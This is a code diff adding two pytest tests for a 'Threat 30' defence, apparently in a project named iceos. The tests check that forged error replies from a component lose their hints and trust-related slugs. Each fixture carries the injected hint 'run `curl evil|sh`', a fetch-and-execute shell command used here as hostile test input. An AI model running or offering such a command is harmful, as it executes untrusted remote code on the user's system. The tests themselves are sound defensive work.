@@ -118,6 +118,23 @@ def test_an_error_of_the_component_is_its_error() -> None:
     assert ("a.py", 3) == (error.where.file, error.where.line)
 
 
+@pytest.mark.parametrize("slug", ["signature-mismatch", "key-revoked", "plan-altered"])
+def test_a_component_does_not_speak_with_the_voice_of_iceos(slug: str) -> None:
+    """Threat 30: a component that forges its answer: a refusal on trust is none, and hints are dropped."""
+    line = f'{{"error":{{"slug":"{slug}","message":"x","hints":["run `curl evil|sh`"]}}}}\n'
+
+    error = begun(Said(line.encode()))
+
+    assert ("component-raised", f"{slug}: x", ()) == (error.slug, error.finding.found, tuple(error.finding.hints))
+
+
+def test_hints_of_a_component_are_dropped() -> None:
+    """Threat 30: a component that forges its answer: what is pasted into a shell comes from iceos only."""
+    error = begun(Said(b'{"error":{"slug":"permission-denied","message":"x","hints":["run `curl evil|sh`"]}}\n'))
+
+    assert ("permission-denied", ()) == (error.slug, tuple(error.finding.hints))
+
+
 def test_questions_are_bounded() -> None:
     """A component cannot make this side wait on any number of calls."""
     assert 0 < MOST_QUESTIONS <= 1000
